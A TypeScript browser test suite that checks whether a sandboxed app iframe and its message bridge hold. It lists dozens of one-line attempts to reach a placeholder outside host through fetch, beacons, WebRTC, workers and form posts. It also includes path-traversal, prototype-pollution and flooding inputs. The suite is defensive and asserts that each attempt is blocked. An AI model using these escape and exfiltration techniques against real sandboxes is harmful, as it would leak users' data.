/**
 * Ways out of an app's frame, each tried in a real browser through the real host page, frame and bridge. A listener
 * outside (HTTP, TCP and UDP) proves that nothing arrived; the control proves that it would have been heard.
 */
import { createSocket, type Socket as UdpSocket } from 'node:dgram'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { Browser, Frame, Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { handleCall } from '../../src/apps/bridge.ts'
import { framePage, hostPage, hostPolicy } from '../../src/apps/page.ts'
import { scratchData } from '../../src/apps/scratch.ts'
import type { AppData } from '../../src/apps/types.ts'
import { bucket } from '../../src/base/bucket.ts'
import { launchBrowser } from '../../src/sandbox/browser.ts'
import { scripts } from '../../src/simulation/scripts.ts'
import { spec } from './spec.ts'

/** Says hello as the kit does and keeps the port where an attempt finds it. */
const APP = `window.addEventListener('message',e=>{if(e.data&&e.data.macaron==='hello'){window.port=e.ports[0];window.hello=e.data.hello;let n=0;const w=new Map();port.onmessage=m=>{const d=m.data;if(d.reply){const r=w.get(d.id);w.delete(d.id);if(r)r(d.reply)}};window.ask=c=>new Promise(r=>{const id=++n;w.set(id,r);port.postMessage({id,call:c})});document.body.dataset.ready=''}});parent.postMessage({macaron:'ready'},'*')`

let browser: Browser
let home: Server
let outside: Server
let udp: UdpSocket
let data: AppData
let heard: string[] = []
let calls: string[] = []
let hostScript = ''
const url = (server: Server) => `http://127.0.0.1:${(server.address() as AddressInfo).port}`
const listening = (server: Server) => new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))

beforeAll(async () => {
  const [made, launched] = await Promise.all([scripts(), launchBrowser(undefined, ['--disable-gpu'])])
  hostScript = made.host
  browser = launched
  outside = createServer((request, response) => {
    heard.push(`${request.method} ${request.url}`)
    response.setHeader('access-control-allow-origin', '*')
    response.end('heard')
  })
  outside.on('connection', () => heard.push('tcp'))
  udp = createSocket('udp4', () => heard.push('udp'))
  await Promise.all([listening(outside), new Promise<void>((resolve) => udp.bind(0, '127.0.0.1', resolve))])
  home = createServer((request, response) => void serve(request.url ?? '/', request.method ?? 'GET', request, response))
  await listening(home)
})

afterAll(async () => {
  await browser?.close()
  home?.close()
  outside?.close()
  udp?.close()
})

async function serve(
  path: string,
  method: string,
  request: NodeJS.ReadableStream,
  response: import('node:http').ServerResponse,
): Promise<void> {
  calls.push(`${method} ${path}`)
  const { html, csp } = framePage({ script: APP, style: 'body{margin:0}', spec: { language: 'en', locale: 'en', name: 'Cups' } })
  const send = (type: string, body: string, policy?: string) => {
    response.setHeader('content-type', type)
    if (policy) response.setHeader('content-security-policy', policy)
    response.end(body)
  }
  if (path === '/') {
    const page = hostPage({
      app: 'thisapp0',
      spec: { ...spec(), capabilities: ['download'] },
      frameUrl: '/frame',
      script: hostScript,
      eventsUrl: null,
      nonce: 'abc',
      bridgeUrl: '/api/apps/thisapp0/bridge',
    })
    return send('text/html', page, hostPolicy('abc'))
  }
  if (path === '/frame') return send('text/html', html, csp)
  if (path === '/api/apps/thisapp0/bridge') {
    let body = ''
    for await (const part of request) body += part
    return send('application/json', JSON.stringify(await handleCall(JSON.parse(body), data, limits)))
  }
  response.setHeader('set-cookie', 'secret=1')
  send('text/plain', 'own server')
}
let limits = bucket(240, 40, () => performance.now())

async function opened<T>(work: (frame: Frame, page: Page) => Promise<T>): Promise<T> {
  data = scratchData({ ...spec(), capabilities: ['download'] }, { cups: [{ name: 'mine', price: 1 }] })
  limits = bucket(240, 40, () => performance.now())
  heard = []
  calls = []
  const context = await browser.newContext()
  try {
    const page = await context.newPage()
    await context.addCookies([{ name: 'session', value: 'token', url: url(home), sameSite: 'Strict' }])
    await page.goto(`${url(home)}/`)
    const handle = await page.waitForSelector('#frame')
    const frame = (await handle.contentFrame())!
    await frame.waitForSelector('body[data-ready]', { state: 'attached', timeout: 5000 })
    return await work(frame, page)
  } finally {
    await context.close()
  }
}

const OUT = 'OUTSIDE'
/** Each is code in the frame; OUTSIDE is the listener's address, UDP its port. */
const REACHING: [string, string][] = [
  ['fetch', `fetch('${OUT}/x').catch(()=>{})`],
  ['fetch without cors', `fetch('${OUT}/x',{mode:'no-cors',method:'POST',body:'data'}).catch(()=>{})`],
  ['fetch that outlives the page', `fetch('${OUT}/x',{keepalive:true,mode:'no-cors'}).catch(()=>{})`],
  ['XMLHttpRequest', `const x=new XMLHttpRequest();x.open('GET','${OUT}/x');x.send()`],
  ['WebSocket', `new WebSocket('${OUT}/x'.replace('http','ws'))`],
  ['EventSource', `new EventSource('${OUT}/x')`],
  ['sendBeacon', `navigator.sendBeacon('${OUT}/x','data')`],
  ['an image', `new Image().src='${OUT}/x'`],
  ['an image set', `document.body.innerHTML='<picture><source srcset="${OUT}/x"><img src="${OUT}/y"></picture>'`],
  [
    'a video poster',
    `document.body.innerHTML='<video poster="${OUT}/x" src="${OUT}/y" autoplay></video><audio src="${OUT}/z" autoplay></audio>'`,
  ],
  ['CSS url()', `document.body.style.backgroundImage='url(${OUT}/x)'`],
  ['CSS import', `const s=document.createElement('style');s.textContent='@import "${OUT}/x"';document.head.append(s)`],
  [
    'a constructed style sheet',
    `const s=new CSSStyleSheet();s.replaceSync('body{background:url(${OUT}/x);cursor:url(${OUT}/y),auto}');document.adoptedStyleSheets=[s]`,
  ],
  ['a font', `const f=new FontFace('x','url(${OUT}/x)');document.fonts.add(f);f.load().catch(()=>{})`],
  ['a style sheet link', `const l=document.createElement('link');l.rel='stylesheet';l.href='${OUT}/x';document.head.append(l)`],
  ['a script', `const s=document.createElement('script');s.src='${OUT}/x';document.head.append(s)`],
  ['a module', `import('${OUT}/x').catch(()=>{})`],
  [
    'prefetch, preload, preconnect, dns-prefetch',
    `for(const rel of ['prefetch','preload','modulepreload','preconnect','dns-prefetch','prerender','icon','manifest']){const l=document.createElement('link');l.rel=rel;l.as='image';l.href='${OUT}/'+rel;document.head.append(l)}`,
  ],
  [
    'speculation rules',
    `const s=document.createElement('script');s.type='speculationrules';s.textContent=JSON.stringify({prefetch:[{source:'list',urls:['${OUT}/x']}]});document.head.append(s)`,
  ],
  [
    'posting a form',
    `document.body.innerHTML='<form method=post action="${OUT}/x"><input name=a value=b></form>';document.forms[0].submit()`,
  ],
  [
    'posting a form to a new window',
    `document.body.innerHTML='<form target=_blank action="${OUT}/x"><button>x</button></form>';document.forms[0].requestSubmit()`,
  ],
  ['a nested frame', `const f=document.createElement('iframe');f.src='${OUT}/x';document.body.append(f)`],
  [
    'frames with a document of their own',
    `for(const [k,v] of [['srcdoc','<img src="${OUT}/x"><script src="${OUT}/y"></script>'],['src','data:text/html,<img src="${OUT}/z">'],['src',URL.createObjectURL(new Blob(['<img src="${OUT}/w">'],{type:'text/html'}))],['src','about:blank']]){const f=document.createElement('iframe');f[k]=v;document.body.append(f);if(v==='about:blank')f.contentDocument.body.innerHTML='<img src="${OUT}/v">'}`,
  ],
  ['object and embed', `document.body.innerHTML='<object data="${OUT}/x"></object><embed src="${OUT}/y">'`],
  ['meta refresh', `const m=document.createElement('meta');m.httpEquiv='refresh';m.content='0;url=${OUT}/x';document.head.append(m)`],
  ['leading its own frame away', `location.href='${OUT}/x'`],
  ['replacing its own frame', `location.replace('${OUT}/x')`],
  ['a link that is clicked', `const a=document.createElement('a');a.href='${OUT}/x';document.body.append(a);a.click()`],
  ['a link with ping', `const a=document.createElement('a');a.href='#x';a.ping='${OUT}/x';document.body.append(a);a.click()`],
  ['a link to the top', `const a=document.createElement('a');a.href='${OUT}/x';a.target='_top';document.body.append(a);a.click()`],
  ['a new window', `window.open('${OUT}/x')`],
  ['the top window', `try{top.location.href='${OUT}/x'}catch{}`],
  ['a base address', `const b=document.createElement('base');b.href='${OUT}/';document.head.append(b);new Image().src='x'`],
  ['a worker', `try{new Worker(URL.createObjectURL(new Blob(["importScripts('${OUT}/x')"])))}catch{}`],
  ['a shared worker', `try{new SharedWorker('${OUT}/x')}catch{}`],
  ['a service worker', `try{navigator.serviceWorker.register('${OUT}/x').catch(()=>{})}catch{}`],
  [
    'WebRTC',
    `try{const c=new RTCPeerConnection({iceServers:[{urls:'stun:127.0.0.1:UDP'}]});c.createDataChannel('x');c.createOffer().then(o=>c.setLocalDescription(o))}catch{}`,
  ],
  [
    'WebRTC of a nested document',
    `const f=document.createElement('iframe');f.srcdoc='<script>'+document.scripts[0].textContent+'<\\/script>';document.body.append(f);try{const c=new f.contentWindow.RTCPeerConnection({iceServers:[{urls:'stun:127.0.0.1:UDP'}]});c.createDataChannel('x');c.createOffer().then(o=>c.setLocalDescription(o))}catch{}`,
  ],
  ['WebTransport', `try{new WebTransport('${OUT}/x'.replace('http:','https:'))}catch{}`],
  ['an inline script', `const s=document.createElement('script');s.textContent="fetch('${OUT}/x')";document.head.append(s)`],
  ['an inline handler', `document.body.innerHTML='<img src=data: onerror="parent.postMessage(1,\\'*\\');location=\\'${OUT}/x\\'">'`],
  ['a javascript: address', `location.href="javascript:location='${OUT}/x'"`],
  [
    'an SVG image with a reference',
    `new Image().src='data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg"><image href="${OUT}/x"/></svg>'`,
  ],
  ['a data: document', `location.href='data:text/html,<img src="${OUT}/x">'`],
  ['a blob: document', `location.href=URL.createObjectURL(new Blob(['<img src="${OUT}/x">'],{type:'text/html'}))`],
]

describe('nothing leaves the frame', () => {
  it('control: the listener hears what is not held', async () => {
    heard = []
    const page = await browser.newPage()
    await page.goto(`${url(home)}/elsewhere`)
    await page.evaluate((to) => fetch(`${to}/control`, { mode: 'no-cors' }).then(() => {}), url(outside))
    await page.close()
    expect(heard).toContain('GET /control')
  })

  it.each(REACHING)('%s', async (_, code) => {
    const filled = code.replaceAll(OUT, url(outside)).replaceAll('UDP', String(udp.address().port))
    await opened(async (frame, page) => {
      await frame.evaluate(`try{${filled};0}catch(e){0}`).catch(() => {})
      await page.waitForTimeout(150)
      expect(page.url()).toBe(`${url(home)}/`)
    })
    expect(heard).toEqual([])
  })
})

describe('nothing of the page around it can be reached', () => {
  it.each<[string, string]>([
    ["the parent's document", `parent.document.body.innerHTML`],
    ["the parent's storage", `parent.localStorage.length`],
    ["the parent's address", `parent.location.href`],
    ["the frame's own element", `frameElement.outerHTML`],
    ['storage', `Object.getOwnPropertyDescriptor(Window.prototype,'localStorage')?.get.call(window)??window.localStorage.length`],
    ['session storage', `sessionStorage.length`],
    ['cookies', `document.cookie='a=b'`],
    ['caches', `(async()=>await caches.open('x'))()`],
    ['evaluated text', `new Function('return 1')()`],
    ['the person’s clipboard', `navigator.clipboard.readText()`],
    ['the place', `new Promise((ok,no)=>navigator.geolocation.getCurrentPosition(ok,no,{timeout:500}))`],
    ['the camera', `navigator.mediaDevices.getUserMedia({video:true})`],
    ['an IndexedDB', `new Promise((ok,no)=>{const r=indexedDB.open('x');r.onsuccess=ok;r.onerror=no})`],
    ['the file system', `navigator.storage.getDirectory()`],
  ])('%s', async (_, code) => {
    const reached = await opened((frame) =>
      frame
        .evaluate(
          `(async()=>{const s=document.createElement('script');try{await (${code.startsWith('new Function') ? 'eval("1")' : code});return 'reached'}catch(e){return 'held'}})()`,
        )
        .catch(() => 'held'),
    )
    // Text evaluated by the browser's own protocol is not bound by the page's policy; the policy itself is what holds it.
    if (code.startsWith('new Function'))
      expect(framePage({ script: '', style: '', spec: { language: 'en', locale: 'en', name: '' } }).csp).not.toContain('unsafe')
    else expect(reached).toBe('held')
  })

  it('the frame opened by itself is as bound', async () => {
    const page = await browser.newPage()
    await page.goto(`${url(home)}/frame`)
    expect(await page.evaluate(`(()=>{try{return localStorage.length}catch{return 'held'}})()`)).toBe('held')
    expect(await page.evaluate('origin')).toBe('null')
    await page.close()
  })
})

describe('the bridge is for one app and one frame', () => {
  const askIn = (frame: Frame, call: unknown) =>
    frame.evaluate(
      (given) => (globalThis as unknown as { ask(call: unknown): Promise<{ ok: boolean; error?: { code: string } }> }).ask(given),
      call,
    )

  it('answers what is right', async () => {
    expect(await opened((frame) => askIn(frame, { do: 'records', collection: 'cups' }))).toMatchObject({
      ok: true,
      value: [{ values: { name: 'mine' } }],
    })
  })

  it.each<[string, unknown]>([
    ["another app's data", { do: 'records', collection: 'cups', app: 'otherapp' }],
    ['an unknown collection', { do: 'records', collection: 'secrets' }],
    ['prototype keys', { do: 'records', collection: '__proto__' }],
    ['granting itself a right', { do: 'grant', capability: 'download', granted: true }],
    ['a right it does not ask for', { do: 'keep', key: 'macaron:grant:clipboard', value: 'yes' }],
    ['an unknown call', { do: 'constructor' }],
    ['a huge message', { do: 'keep', key: 'k', value: 'x'.repeat(3_000_000) }],
    ['no call', 7],
  ])('refuses %s', async (_, call) => {
    expect(await opened((frame) => askIn(frame, call))).toMatchObject({ ok: false })
    expect(calls.some((call) => call.includes('otherapp'))).toBe(false)
  })

  it('holds a flood', async () => {
    const refused = await opened((frame) =>
      frame.evaluate(
        `Promise.all(Array.from({length:1000},()=>ask({do:'kept'}))).then(all=>all.filter(r=>!r.ok&&r.error.code==='call-too-often').length)`,
      ),
    )
    expect(refused).toBeGreaterThan(500)
    expect(calls.length).toBeLessThan(500)
  })

  it('hands out one port, to its own frame only', async () => {
    const got = await opened(async (frame, page) => {
      await frame.evaluate(`window.more=0;addEventListener('message',()=>more++);parent.postMessage({macaron:'ready'},'*')`)
      await page.evaluate(
        `window.stolen=0;addEventListener('message',e=>{if(e.ports.length)stolen++});window.postMessage({macaron:'ready'},'*')`,
      )
      await page.waitForTimeout(150)
      return [await frame.evaluate('more'), await page.evaluate('stolen')]
    })
    expect(got).toEqual([0, 0])
  })

  it('a message to the window is not a call', async () => {
    await opened(async (frame, page) => {
      calls = []
      await frame.evaluate(`parent.postMessage({id:1,call:{do:'write',writes:[]}},'*');parent.postMessage({theme:'dark'},'*')`)
      await page.waitForTimeout(150)
      expect(calls).toEqual([])
      expect(await page.evaluate('document.documentElement.dataset.theme')).toBeUndefined()
    })
  })

  it('a frame that went elsewhere is taken away, with its port', async () => {
    await opened(async (frame, page) => {
      await frame.evaluate(`location.reload()`).catch(() => {})
      await page.waitForSelector('#frame', { state: 'detached', timeout: 3000 })
      expect(await page.textContent('#notice')).toContain('stopped')
    })
  })

  it('a download waits for the person', async () => {
    await opened(async (frame, page) => {
      let downloads = 0
      page.on('download', () => downloads++)
      await frame.evaluate(`window.got=ask({do:'download',name:'../../evil.exe',mime:'text/html',text:'x'});0`)
      await page.waitForSelector('#ask[open]')
      expect(downloads).toBe(0)
      await page.click('#ask .no')
      expect(await frame.evaluate('got')).toMatchObject({ ok: false })
      expect(downloads).toBe(0)
    })
  })

  it('a download that is allowed has a name that is no path, and no kind that runs', async () => {
    await opened(async (frame, page) => {
      await frame.evaluate(`void ask({do:'download',name:'../../evil.exe',mime:'text/html',text:'x'});0`)
      await page.waitForSelector('#ask[open]')
      const [download] = await Promise.all([page.waitForEvent('download'), page.click('#ask .yes')])
      expect(download.suggestedFilename()).toMatch(/^[^/\\.][^/\\]*\.txt$/)
    })
  })

  it.each<[string, string]>([
    ['an id that no record has', `{id:'write001',do:'update',collection:'cups',record:'another1',values:{name:'taken'}}`],
    ['a record of another collection', `{id:'write002',do:'delete',collection:'secrets',record:'another1'}`],
    ['a record id that is a path', `{id:'write003',do:'delete',collection:'cups',record:'../other/1'}`],
    ['a field named constructor', `{id:'write005',do:'create',collection:'cups',values:{constructor:'x',name:'x'}}`],
    ['a write in the name of another writer', `{id:'write006',do:'create',collection:'cups',by:'agent',values:{name:'x'}}`],
    [
      'a getter that answers twice',
      `{id:'write007',do:'create',collection:'cups',get values(){this.n=(this.n||0)+1;return this.n>1?{name:'x'}:{nope:1}}}`,
    ],
  ])('writes nothing for %s', async (_, write) => {
    await opened(async (frame) => {
      const reply = await frame.evaluate(`ask({do:'write',writes:[${write}]}).catch(e=>({ok:false,thrown:String(e)}))`)
      expect(reply).toMatchObject({ ok: false })
      const kept = await data.records('cups')
      expect(kept).toMatchObject({ ok: true, value: [{ values: { name: 'mine' } }] })
      expect(kept.ok && kept.value).toHaveLength(1)
    })
  })

  it('drops a field named __proto__, and no prototype changes', async () => {
    await opened(async (frame) => {
      const write = `{id:'write004',do:'create',collection:'cups',values:JSON.parse('{"__proto__":{"admin":true},"name":"x"}')}`
      await frame.evaluate(`ask({do:'write',writes:[${write}]})`)
      const kept = await data.records('cups')
      expect(kept.ok && kept.value.map((record) => Object.keys(record.values))).toEqual([['name', 'price'], ['name']])
    })
    expect(({} as { admin?: true }).admin).toBeUndefined()
  })

  it.each<[string, string]>([
    ['an id that is an object', `{id:{},call:{do:'kept'}}`],
    ['an id that is not whole', `{id:1.5,call:{do:'kept'}}`],
    ['a reply in place of a call', `{id:1,reply:{ok:true}}`],
    ['a change that was never made', `{change:{app:'thisapp0',what:'version',seq:1}}`],
    ['a bare text', `'kept'`],
  ])('does not answer %s', async (_, message) => {
    await opened(async (frame, page) => {
      calls = []
      await frame.evaluate(`window.answers=0;port.addEventListener('message',()=>answers++);port.postMessage(${message});0`)
      expect(await frame.evaluate(`ask({do:'records',collection:'cups'})`)).toMatchObject({ ok: true })
      expect(await frame.evaluate('answers')).toBe(1)
      expect(calls).toEqual(['POST /api/apps/thisapp0/bridge'])
      expect(page.url()).toBe(`${url(home)}/`)
    })
  })
})
